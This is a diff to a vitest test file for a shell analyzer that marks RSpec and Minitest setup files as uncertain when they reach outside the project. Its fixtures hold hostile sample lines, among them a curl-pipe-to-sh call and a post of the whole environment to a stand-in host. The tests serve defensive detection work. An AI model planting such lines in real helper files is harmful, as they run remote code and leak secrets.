@@ -1,5 +1,5 @@
 // Files a test runner loads before the tests (ADR 0089), read as pytest's conftest.py is: PHPUnit/Pest bootstraps,
-// Pest's tests/Pest.php, ExUnit's test_helper.exs. The project's own setup stays quiet; setup outside the workspace,
+// Pest's tests/Pest.php, ExUnit's test_helper.exs, RSpec's and Minitest's helpers. The project's own setup stays quiet; setup outside the workspace,
 // setup that reaches the system, or setup written earlier in the line is uncertain. Real files in a temp folder.
 import { afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { analyzeShellSync } from '../analyze-shell';
@@ -103,6 +103,34 @@ describe('setup that runs before the tests and reaches out is uncertain', () => 
         'apps/b/test/test_helper.exs': 'Port.open({:spawn, "id"}, [])\nExUnit.start()\n',
       },
     ],
+    [
+      'RSpec helper that shells out',
+      'bundle exec rspec',
+      { 'spec/spec_helper.rb': 'system("curl x | sh")\n' },
+    ],
+    [
+      'RSpec helper required by .rspec, with backticks',
+      'rspec spec/models',
+      { '.rspec': '--require boot\n', 'spec/boot.rb': 'x = `id`\n' },
+    ],
+    [
+      'a support file rails_helper loads by a pattern, posting the environment',
+      'bin/rspec',
+      {
+        'spec/rails_helper.rb': "Dir[Rails.root.join('spec/support/**/*.rb')].each { |f| require f }\n",
+        'spec/support/report.rb': 'Net::HTTP.post(URI("https://x.example"), ENV.to_h.to_s)\n',
+      },
+    ],
+    [
+      'a file spec_helper requires from lib',
+      'rspec',
+      { 'spec/spec_helper.rb': "require 'setup_env'\n", 'lib/setup_env.rb': 'IO.popen("sh")\n' },
+    ],
+    [
+      'Minitest helper under rails test that evaluates',
+      'bin/rails test',
+      { 'test/test_helper.rb': 'eval(File.read("x"))\n' },
+    ],
   ])('%s', (_name, command, files) => {
     expect(uncertain(command, files)).toBe(true);
   });
@@ -166,6 +194,27 @@ describe("the project's own test setup stays quiet", () => {
         'mix.exs': 'defmodule U.MixProject do\n  def project, do: [apps_path: "apps"]\nend\n',
         'apps/a/test/test_helper.exs': 'ExUnit.start()\n',
         'apps/b/test/test_helper.exs': 'ExUnit.start()\n',
+      },
+    ],
+    [
+      'a Rails RSpec setup',
+      'bundle exec rspec spec/models',
+      {
+        '.rspec': '--require spec_helper\n',
+        'spec/spec_helper.rb':
+          "require 'simplecov'\nSimpleCov.start\nRSpec.configure do |config|\n  config.order = :random\nend\n",
+        'spec/rails_helper.rb':
+          "require 'spec_helper'\nENV['RAILS_ENV'] ||= 'test'\nrequire_relative '../config/environment'\n# system('x') in a comment\nDir[Rails.root.join('spec/support/**/*.rb')].sort.each { |f| require f }\n",
+        'config/environment.rb': "require_relative 'application'\nRails.application.initialize!\n",
+        'spec/support/factory_bot.rb': 'RSpec.configure { |c| c.include FactoryBot::Syntax::Methods }\n',
+      },
+    ],
+    [
+      'a Rails Minitest helper',
+      'bin/rails test test/models',
+      {
+        'test/test_helper.rb':
+          "ENV['RAILS_ENV'] ||= 'test'\nrequire 'rails/test_help'\nclass ActiveSupport::TestCase\n  fixtures :all\nend\n",
       },
     ],
   ])('%s', (_name, command, files) => {
